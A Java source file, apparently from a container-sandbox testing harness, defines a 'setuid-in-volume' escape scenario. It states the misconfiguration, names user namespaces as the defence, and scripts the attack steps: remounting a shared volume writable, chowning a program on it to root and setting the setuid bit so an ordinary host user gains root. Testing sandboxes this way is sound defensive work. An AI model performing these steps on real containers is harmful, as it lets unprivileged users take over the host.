package nutshell.escapes;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import nutshell.mounts.MountFlag;

/** Makes a program on a shared volume root's, with the set-user-ID bit, for an ordinary user of the host to run. */
record SetuidInVolume() implements Escape {

    @Override
    public String word() {
        return "setuid-in-volume";
    }

    @Override
    public String mistake() {
        return "root inside is root outside, and a volume honours the set-user-ID bit";
    }

    @Override
    public Defence fix() {
        return Defence.USER_NAMESPACE;
    }

    private static final int NOBODY = 65_534;

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        blueprint.mount(new HostMount(stake.disk().volume(), "vol", false, false));
    }

    /** The ordinary user has put a program of the host's on the volume: a copy, and so that user's own. */
    @Override
    public void prepare(Stake stake) {
        try {
            Path program = program(stake);
            Files.copy(Path.of("/bin/cp"), program, StandardCopyOption.REPLACE_EXISTING);
            Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwxr-xr-x"));
            Files.setAttribute(program, "unix:uid", NOBODY);
            Files.setAttribute(program, "unix:gid", NOBODY);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Path program(Stake stake) {
        return stake.disk().volume().resolve("cp");
    }

    @Override
    public boolean takesAnyVolume() {
        return true;
    }

    @Override
    public List<Attack> ways(Scene scene) {
        String volume = scene.at(scene.stake().disk().volume());
        return List.of(attacker -> make(attacker, volume), attacker -> {
            attacker.note("it was only mounted read-only")
                    .mount(null, volume, null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
            make(attacker, volume);
        });
    }

    private static void make(Attacker attacker, String volume) {
        String program = volume + "/cp";
        attacker.note("a program on the volume becomes root's")
                .call(
                        "fchownat",
                        List.of("AT_FDCWD", Attacker.quoted(program), "0", "0", "0"),
                        Attacker.CWD,
                        program,
                        0,
                        0,
                        0);
        attacker.note("and runs as root from now on, whoever starts it, on the host as well")
                .call("fchmodat", List.of("AT_FDCWD", Attacker.quoted(program), "04755"), Attacker.CWD, program, 04755);
    }

    /** On the host, as that ordinary user. */
    @Override
    public void afterwards(Scene scene) {
        Stake stake = scene.stake();
        stake.runAs(
                NOBODY,
                List.of(
                        program(stake).toString(),
                        stake.nonceFile().toString(),
                        stake.left().toString()));
    }
}
